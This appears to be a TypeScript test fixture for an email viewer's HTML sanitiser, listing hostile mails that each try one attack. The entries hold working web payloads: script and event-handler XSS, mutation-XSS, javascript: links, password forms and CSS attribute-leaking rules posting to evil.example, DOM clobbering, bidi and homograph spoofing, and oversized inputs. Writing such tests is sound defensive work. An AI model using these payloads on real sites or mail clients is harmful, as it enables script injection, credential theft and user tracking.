// Mails that attack whoever reads them. Each tries something, and each still has a text to be read.

export interface HostileMail {
  /** What it tries. */
  tries: string;
  html: string;
  subject?: string;
  from?: string;
  /** Without any protection it makes itself seen at once: the teeth of this test. */
  bites: boolean;
  /** It takes seconds: of the whole form. */
  slow?: boolean;
  /** Where its links lead, which the page must tell. */
  lies?: string[];
}

/** What each mail still says, whatever is taken out of it. */
export const READABLE = 'This sentence is for the reader.';
const TEXT = `<p>${READABLE}</p>`;
/** What a script of a mail would leave: a word in the console, a mark in the window, a call to its sender. */
const RUN = "top.HIT=1;parent.HIT=1;window.HIT=1;console.log('HIT');document.title='HIT';new Image().src='http://evil.example/ran'";

const FIVE_MEGABYTES = 5 * 1024 * 1024;

export const HOSTILE: HostileMail[] = [
  { tries: 'a script', bites: true, html: `${TEXT}<script>${RUN}</script><script src="http://evil.example/x.js"></script>` },
  {
    tries: 'handlers on elements',
    bites: true,
    html: `${TEXT}<img src=x onerror="${RUN}"><svg onload="${RUN}"></svg><body onload="${RUN}"><details open ontoggle="${RUN}"><summary>s</summary></details>
      <input autofocus onfocus="${RUN}"><video><source onerror="${RUN}"></video><marquee onstart="${RUN}">m</marquee><div onpointerenter="${RUN}">d</div>`,
  },
  {
    tries: 'scripts within SVG and MathML',
    bites: true,
    html: `${TEXT}<svg><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x dur=1s /><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject>
      <use href="http://evil.example/x.svg#a"/><image href="http://evil.example/svg.png" width=9 height=9 /></svg><math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${RUN}">m</maction></math>`,
  },
  {
    tries: 'markup that changes when it is parsed again (mutation)',
    bites: false,
    html: `${TEXT}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN.replace(/"/g, '')}&gt;"></table></mtext></math>
      <form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></style></mglyph></form>
      <svg></p><style><a id="</style><img src=1 onerror=&quot;${RUN}&quot;>"></a></svg><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>
      <template><img src=x onerror="${RUN}"></template><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  },
  {
    tries: 'links that run',
    bites: false,
    html: `${TEXT}<a href="javascript:${RUN}">one</a> <a href=" java&#10;script:${RUN}">two</a> <a href="data:text/html,<script>${RUN}</script>">three</a>
      <a href="vbscript:x">four</a> <a href="blob:http://evil.example/1">five</a> <a href="file:///etc/passwd">six</a> <a href="filesystem:x">seven</a> <area href="javascript:${RUN}" shape=rect coords="0,0,9,9">`,
  },
  {
    tries: 'forms that send',
    bites: true,
    html: `${TEXT}<form action="http://evil.example/login" method="post"><input name="password" type="password"><button>Sign in</button></form>
      <form id=f action="http://evil.example/auto"><input name=a value=b></form><input form=f type=image src="http://evil.example/button.png"><button form=f formaction="javascript:${RUN}">go</button>`,
  },
  { tries: 'another page in place of this one', bites: true, html: `<meta http-equiv="refresh" content="0;url=http://evil.example/refreshed">${TEXT}` },
  {
    tries: 'remote pictures, backgrounds and sounds',
    bites: true,
    html: `${TEXT}<img src="http://evil.example/pixel.gif" width=1 height=1><img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">
      <picture><source srcset="http://evil.example/c.png"><img src="http://evil.example/d.png"></picture><table background="http://evil.example/t.png"><tr><td background="http://evil.example/td.png">t</td></tr></table>
      <video poster="http://evil.example/p.png" src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a.mp3" autoplay></audio><img src="//evil.example/schemeless.png"><img src="https://evil.example/tls.png"><track src="http://evil.example/t.vtt">`,
  },
  {
    tries: 'remote styles and fonts',
    bites: true,
    html: `<link rel="stylesheet" href="http://evil.example/l.css"><link rel="icon" href="http://evil.example/i.ico"><link rel="prefetch" href="http://evil.example/p"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="http://evil.example">
      <style>@import url("http://evil.example/import.css"); @import 'http://evil.example/import2.css'; @font-face{font-family:x;src:url(http://evil.example/f.woff2)} *{font-family:x} body{background:url(http://evil.example/bg.png)} .c{cursor:url(http://evil.example/c.cur),auto} li{list-style-image:url(http://evil.example/l.png)} p::before{content:url(http://evil.example/content.png)} .i{background:image-set("http://evil.example/s.png" 1x)} .u{background:\\75\\72\\6c(http://evil.example/escaped.png)}</style>
      ${TEXT}<p class="c i u" style="background-image:url('http://evil.example/inline.png')">styled</p><ul><li>x</li></ul>`,
  },
  {
    tries: 'styles that tell what stands on the page',
    bites: true,
    html: `<style>input[value^="a"]{background:url(http://evil.example/a)} input[value]{background:url(http://evil.example/has)} a[href*="token"]{background:url(http://evil.example/token)} :root:has(a){background:url(http://evil.example/root)} @media (min-width:1px){p{border-image:url(http://evil.example/media) 1}} @supports (display:grid){p{mask-image:url(http://evil.example/mask)}} @property --x{syntax:"<url>";inherits:true;initial-value:url(http://evil.example/prop)}</style>
      ${TEXT}<input value="abc"><a href="https://shop.example/?token=1">a link</a>`,
  },
  {
    tries: 'an overlay over the whole page',
    bites: false,
    html: `<style>.o{position:fixed;inset:0;z-index:2147483647;background:red;color:white} html,body{position:fixed!important;inset:0!important;width:9999px!important;height:9999px!important}</style>
      <div class="o">Your session ended. <a href="http://evil.example/login">Sign in again</a></div>${TEXT}`,
  },
  {
    tries: 'sizes that push everything away',
    bites: false,
    html: `<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:9999999px;z-index:99999;background:red">x</div><div style="margin:-5000px;padding:9999999px;transform:scale(1000)">y</div>${TEXT}<pre>${'w'.repeat(20_000)}</pre><table width="500000"><tr><td>wide</td></tr></table>`,
  },
  {
    tries: 'frames, objects and a page within the page',
    bites: true,
    html: `${TEXT}<iframe src="http://evil.example/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e.swf"><frameset><frame src="http://evil.example/f"></frameset><portal src="http://evil.example/p"></portal><applet code="x" codebase="http://evil.example/"></applet><iframe src="javascript:${RUN}"></iframe>`,
  },
  {
    tries: 'another base and another target for every link',
    bites: true,
    html: `<base href="http://evil.example/" target="_top">${TEXT}<a href="login">Sign in</a> <a href="/console/connectors" target="_top">up</a> <a href="http://evil.example/top" target="_parent">parent</a><img src="relative.png">`,
  },
  {
    tries: 'to ask the API by relative addresses',
    bites: false,
    html: `${TEXT}<img src="/api/connectors"><img src="../api/owner/data"><link rel=stylesheet href="/console/config.json"><a href="/api/connectors" ping="http://evil.example/ping">api</a>`,
  },
  {
    tries: 'links that lie about where they lead',
    bites: false,
    lies: ['evil.example', 'xn--pple-43d.com', 'bank.example.evil.example'],
    html: `${TEXT}<a href="https://evil.example/login">https://bank.example/login</a> <a href="https://xn--pple-43d.com/id">apple.com</a> <a href="https://аpple.com/id">apple.com</a>
      <a href="https://bank.example@evil.example/">bank.example</a> <a href="https://bank.example.evil.example/">bank.example</a> <a href="https://evil.example/%E2%80%AEmoc.knab">\u202Emoc.knab</a>`,
  },
  {
    tries: 'letters that turn the reading direction, in the subject and the sender too',
    bites: false,
    subject: 'invoice\u202Efdp.exe\u202C \u2066\u202Eabc',
    from: '"\u202Eelpmaxe.knab@gnillib" <mallory@evil.example>',
    html: `${TEXT}<p>\u202E\u2066\u2067 this is turned \u200F\u200B\u2060</p><bdo dir=rtl>turned</bdo>`,
  },
  { tries: 'a name that breaks out of the page', bites: false, subject: `</title><script>${RUN}</script>`, from: `"<img src=x onerror=${RUN}>" <a@evil.example>`, html: TEXT },
  {
    tries: 'the names of the page for itself (clobbering)',
    bites: false,
    html: `${TEXT}<form id="document" name="body"><input name="attributes"><input name="parentNode"></form><a id="location" href="http://evil.example/">l</a><img name="cookie" src=x><iframe name="top" src="about:blank"></iframe><form name="defaultView"></form>`,
  },
  {
    tries: 'text that the reader does not see',
    bites: false,
    html: `<div style="display:none">hidden one</div><div style="font-size:0;color:transparent;opacity:0;position:absolute;left:-9999px">hidden two</div><div hidden>hidden three</div>${TEXT}<style>p{color:white!important;background:white!important} .z{color:#000!important}</style>`,
  },
  { tries: 'five megabytes', bites: false, slow: true, html: `${TEXT}${`<div><b><i>${'x'.repeat(200)}</i></b></div>\n`.repeat(FIVE_MEGABYTES / 228)}<img src="http://evil.example/late.png"><script>${RUN}</script>` },
  { tries: 'ten thousand elements within each other', bites: false, html: `${TEXT}${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}<img src=x onerror="${RUN}">` },
  {
    tries: 'comments and conditions of other programs',
    bites: false,
    html: `${TEXT}<!--[if mso]><script>${RUN}</script><![endif]--><!--><img src=x onerror="${RUN}">--><![CDATA[<script>${RUN}</script>]]><?xml-stylesheet href="http://evil.example/x.xsl"?>`,
  },
  {
    tries: 'windows, downloads and workers',
    bites: true,
    html: `${TEXT}<script>open('http://evil.example/window');new Worker('data:,x');location='http://evil.example/moved'</script><a href="http://evil.example/f.exe" download>f</a><a href="http://evil.example/w" target="w" rel="opener">w</a><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><meta http-equiv="Set-Cookie" content="a=b">`,
  },
];
